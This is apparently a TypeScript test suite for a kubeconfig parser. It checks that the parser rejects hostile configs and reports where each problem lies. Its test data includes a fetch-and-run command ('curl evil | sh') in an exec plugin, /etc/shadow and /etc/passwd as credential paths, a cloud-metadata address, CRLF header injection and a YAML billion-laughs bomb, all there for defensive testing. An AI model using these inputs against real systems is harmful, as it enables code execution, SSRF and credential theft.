import { expect } from 'chai'
import { generate } from 'selfsigned'
import type { Fault } from '#engine/value/fault.ts'
import { readKubeconfig } from '#streams/cloud/kubernetes/api/kubeconfig.ts'
import { certificatePEM } from '#test/harness/certificate.ts'

const base64 = (text: string) => Buffer.from(text).toString('base64')
const caData = base64(certificatePEM)

const document = (cluster: string, user: string, more = '', context = '{ cluster: prod, user: tidemark }') => `
apiVersion: v1
kind: Config
preferences: {}
current-context: main
clusters:
  - name: prod
    cluster: { server: 'https://34.71.86.84:6443/'${cluster} }
users:
  - name: tidemark
    user: { ${user} }
contexts:
  - name: main
    context: ${context}
${more}`

const plain = document(`, certificate-authority-data: ${caData}`, 'token: abc.def-1')

const read = (text: string, allowPrivate = false) => readKubeconfig(text, { allowPrivate })

/** The places of its problems. */
function refusedAt(text: string, allowPrivate = false): string[] {
  try {
    return [`taken: ${JSON.stringify(read(text, allowPrivate))}`]
  } catch (error) {
    const { kind, code, detail } = error as Fault
    expect([kind, code]).to.deep.equal(['invalid', 'validation_failed'])
    return detail.problems!.map(({ path }) => path)
  }
}

const server = (url: string) => plain.replace('https://34.71.86.84:6443/', url)

/** What somebody may send us who wants more than to be looked at, and where it is refused. */
const hostile: Readonly<Record<string, readonly [text: string, ...at: string[]]>> = {
  'a program that makes tokens': [
    document('', "token: a, exec: { command: sh, args: ['-c', 'curl evil | sh'] }"),
    '/users/0/user/exec',
  ],
  'a program alone': [document('', 'exec: { command: id }'), '/users/0/user/exec'],
  'a plugin of a cloud': [
    document('', "auth-provider: { name: gcp, config: { cmd-path: '/bin/sh' } }"),
    '/users/0/user/auth-provider',
  ],
  'the file of a token': [document('', 'tokenFile: /var/run/secrets/token'), '/users/0/user/tokenFile'],
  'files of a certificate and key': [
    document('', 'token: a, client-certificate: /etc/passwd, client-key: /etc/shadow'),
    '/users/0/user/client-certificate',
    '/users/0/user/client-key',
  ],
  'a certificate and key beside a token': [
    document('', 'token: a, client-certificate-data: YQ==, client-key-data: YQ=='),
    '/users/0/user',
  ],
  'a client certificate that is none': [
    document('', 'client-certificate-data: YQ==, client-key-data: YQ=='),
    '/users/0/user/client-certificate-data',
  ],
  'a client certificate without its key': [
    document('', `client-certificate-data: ${caData}`),
    '/users/0/user/client-key-data',
  ],
  'a client certificate with a key that is none': [
    document('', `client-certificate-data: ${caData}, client-key-data: YQ==`),
    '/users/0/user/client-key-data',
  ],
  'a key alone': [document('', 'client-key-data: YQ=='), '/users/0/user/client-certificate-data'],

  'a user and a password': [
    document('', 'username: admin, password: admin'),
    '/users/0/user/username',
    '/users/0/user/password',
  ],
  'somebody else to be': [document('', "token: a, as: 'system:admin'"), '/users/0/user/as'],
  'the file of an authority': [
    document(', certificate-authority: /etc/shadow', 'token: a'),
    '/clusters/0/cluster/certificate-authority',
  ],
  'no check of certificates': [
    document(', insecure-skip-tls-verify: true', 'token: a'),
    '/clusters/0/cluster/insecure-skip-tls-verify',
  ],
  'a proxy': [document(", proxy-url: 'http://169.254.169.254'", 'token: a'), '/clusters/0/cluster/proxy-url'],
  'another name to check': [document(', tls-server-name: evil', 'token: a'), '/clusters/0/cluster/tls-server-name'],
  'a user that is not used': [
    plain.replace('contexts:', '  - name: other\n    user: { exec: { command: id } }\ncontexts:'),
    '/users/1/user/exec',
  ],
  'a program beside the user': [
    plain.replace('  - name: tidemark', '  - name: tidemark\n    exec: { command: id }'),
    '/users/0/exec',
  ],
  extensions: [document('', 'token: a', "extensions: [{ name: a, extension: '/etc' }]"), '/extensions'],
  'a merge of one entry into another': [document('', '<<: { exec: { command: id } }, token: a'), '/users/0/user/<<'],
  'an address of the metadata of a cloud': [server('https://169.254.169.254/'), '/clusters/0/cluster/server'],
  'an address of this machine, as one number': [server('https://2130706433/'), '/clusters/0/cluster/server'],
  'an address of this machine, in IPv6': [server('https://[::ffff:7f00:1]/'), '/clusters/0/cluster/server'],
  'an address without TLS': [server('http://34.71.86.84/'), '/clusters/0/cluster/server'],
  'an address of a file': [server('file:///etc/passwd'), '/clusters/0/cluster/server'],
  'an address with a password': [server('https://a:b@34.71.86.84/'), '/clusters/0/cluster/server'],
  'an address with a query': [server('https://34.71.86.84/?a=b'), '/clusters/0/cluster/server'],
  'an authority that is a key': [
    document(
      `, certificate-authority-data: ${base64(`${certificatePEM}-----BEGIN PRIVATE KEY-----\nYQ==\n-----END PRIVATE KEY-----\n`)}`,
      'token: a',
    ),
    '/clusters/0/cluster/certificate-authority-data',
  ],
  'an authority that is no certificate': [
    document(
      `, certificate-authority-data: ${base64('-----BEGIN CERTIFICATE-----\nYQ==\n-----END CERTIFICATE-----')}`,
      'token: a',
    ),
    '/clusters/0/cluster/certificate-authority-data',
  ],
  'a token that is a header': [document('', 'token: "a\\r\\nhost: evil"'), '/users/0/user/token'],
  'no token': [document('', 'token: ""'), '/users/0/user/token'],
  'an object for a token': [document('', 'token: { exec: id }'), '/users/0/user/token'],
  'two clusters of one name': [
    plain.replace('users:', "  - name: prod\n    cluster: { server: 'https://evil' }\nusers:"),
    '/clusters/1',
  ],
  'a context that is not there': [plain.replace('current-context: main', 'current-context: other'), '/contexts'],
  'a user that is not there': [document('', 'token: a', '', '{ cluster: prod, user: root }'), '/users'],
  'a namespace that is a path': [
    document('', 'token: a', '', '{ cluster: prod, user: tidemark, namespace: ../../nodes }'),
    '/contexts/0/context/namespace',
  ],
  'two documents': [`${plain}\n---\n${plain}`, ''],
  'types of its own': [document('', 'token: !!js/function "function(){}"'), ''],
  'names given twice': [document('', 'token: a, token: b'), ''],
  'no YAML': ['{', ''],
  'a list': ['[]', ''],
  nothing: ['', ''],
  'more than anybody needs': [`${plain}\n# ${'x'.repeat(256 * 1024)}`, ''],
  'a nest without end': ['['.repeat(100_000), ''],
  'laughter by the billion': [
    `a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nclusters: [*c]\nusers: [*c]\ncontexts: [*c]`,
    '/a',
    '/b',
    '/c',
  ],
}

describe('a kubeconfig', () => {
  it('gives server, authority and token of its current context, and the namespace that it names', () => {
    expect(read(plain)).to.deep.equal({ url: 'https://34.71.86.84:6443', ca: certificatePEM, token: 'abc.def-1' })
    const narrow = document('', 'token: abc', '', '{ cluster: prod, user: tidemark, namespace: shop }')
    expect(read(narrow)).to.deep.equal({ url: 'https://34.71.86.84:6443', token: 'abc', namespace: 'shop' })
    expect(read(plain.replace('current-context: main', '')).token, 'its only context').to.equal('abc.def-1')
  })

  it('gives a client certificate with its own key and no other, in place of a token', async () => {
    const own = await generate([{ name: 'commonName', value: 'tidemark' }], { keyType: 'ec' })
    const other = await generate([{ name: 'commonName', value: 'tidemark' }], { keyType: 'ec' })
    const as = (key: string) =>
      document('', `client-certificate-data: ${base64(own.cert)}, client-key-data: ${base64(key)}`)
    const { client, token } = read(as(own.private))
    expect([client?.cert.trim(), client?.key, token]).to.deep.equal([own.cert.trim(), own.private, undefined])
    expect(refusedAt(as(other.private))).to.deep.equal(['/users/0/user/client-key-data'])
  })

  it('may be JSON', () => {
    const json = JSON.stringify({
      clusters: [{ name: 'a', cluster: { server: 'https://34.71.86.84/k8s/clusters/c-1' } }],
      users: [{ name: 'b', user: { token: 'abc' } }],
      contexts: [{ name: 'c', context: { cluster: 'a', user: 'b' } }],
    })
    expect(read(json)).to.deep.equal({ url: 'https://34.71.86.84/k8s/clusters/c-1', token: 'abc' })
  })

  it('may lead into private networks where the installation allows it, and nothing else may stand in it even so', () => {
    expect(read(server('https://10.0.0.7:6443'), true).url).to.equal('https://10.0.0.7:6443')
    expect(refusedAt(document('', 'exec: { command: id }'), true)).to.deep.equal(['/users/0/user/exec'])
  })

  for (const [what, [text, ...at]] of Object.entries(hostile))
    it(`is refused with ${what}, by the place of it`, () => {
      const found = refusedAt(text)
      expect(found.slice(0, at.length)).to.deep.equal(at)
      if (!what.startsWith('laughter')) expect(found).to.have.length(at.length)
    })

  it('is refused without a word of what stands in it', () => {
    for (const [text] of Object.values(hostile)) {
      try {
        read(text)
      } catch (error) {
        expect(JSON.stringify([(error as Fault).message, (error as Fault).detail])).to.not.match(
          /evil|passwd|shadow|admin"/,
        )
      }
    }
  })
})
